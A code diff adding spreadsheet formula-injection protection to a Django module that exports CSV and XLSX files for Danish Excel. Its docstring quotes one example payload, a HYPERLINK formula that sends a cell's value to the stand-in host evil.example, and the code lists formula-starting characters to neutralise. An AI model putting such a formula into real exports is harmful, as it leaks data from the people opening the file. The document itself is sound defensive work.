@@ -3,6 +3,12 @@
 CSV as Danish Excel opens it: UTF-8 with a BOM (without it Excel garbles æøå), ';' between
 fields, CRLF line ends; an empty value (None) is an empty field. XLSX: one sheet of the same
 rows, numbers as numbers.
+
+Spreadsheet formula injection (OWASP "CSV Injection"): a name such as
+`=HYPERLINK("http://evil.example/?d="&B2;"Klik")` would run as a formula when a caseworker
+opens the file. Text starting with = + - @, a tab or a carriage return is prefixed with a
+single quote in CSV (Excel shows the text, runs nothing); in XLSX every text is a string
+cell, never a formula. Numbers and dates stay numbers and dates.
 """
 
 import csv
@@ -10,7 +16,9 @@ import io
 from collections.abc import Iterable
 
 from django.http import HttpResponse
+from django.utils.functional import Promise
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
 
 EXPORT_FORMATS = ("csv", "xlsx")
 CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
@@ -18,14 +26,49 @@ XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml
 BOM = "\ufeff"
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _plain(value):
+    """A lazy translation (a Danish label) as the text it is; other values unchanged."""
+    return str(value) if isinstance(value, Promise) else value
+
+
+def csv_safe(value):
+    """A text that a spreadsheet would read as a formula, made inert; others unchanged."""
+    value = _plain(value)
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def csv_text(*, headers: list, rows: Iterable[list]) -> str:
-    """The CSV as text, starting with the BOM."""
+    """The CSV as text, starting with the BOM; formula-like texts neutralised."""
     out = io.StringIO()
     out.write(BOM)
     writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
-    writer.writerow(headers)
-    writer.writerows(rows)
+    writer.writerow([csv_safe(v) for v in headers])
+    writer.writerows([csv_safe(v) for v in row] for row in rows)
     return out.getvalue()
+
+
+def xlsx_append(sheet, row: Iterable) -> None:
+    """Append a row to a worksheet (write-only or not) with every text as a string cell:
+    openpyxl would otherwise store a text starting with "=" as a live formula."""
+    row = [_plain(value) for value in row]
+    if hasattr(sheet, "cell"):  # an ordinary worksheet
+        sheet.append(row)
+        for cell in sheet[sheet.max_row]:
+            if cell.data_type == "f":
+                cell.data_type = "s"
+        return
+    cells = []
+    for value in row:
+        cell = WriteOnlyCell(sheet, value=value)
+        if isinstance(value, str):
+            cell.data_type = "s"
+        cells.append(cell)
+    sheet.append(cells)
 
 
 def csv_bytes(*, headers: list, rows: Iterable[list]) -> bytes:
@@ -36,9 +79,9 @@ def xlsx_bytes(*, sheet_title: str, headers: list, rows: Iterable[list]) -> byte
     """One sheet (title cut to Excel's 31 characters): the headers, then the rows."""
     workbook = Workbook(write_only=True)
     sheet = workbook.create_sheet(title=sheet_title[:31])
-    sheet.append(headers)
+    xlsx_append(sheet, headers)
     for row in rows:
-        sheet.append(row)
+        xlsx_append(sheet, row)
     out = io.BytesIO()
     workbook.save(out)
     return out.getvalue()
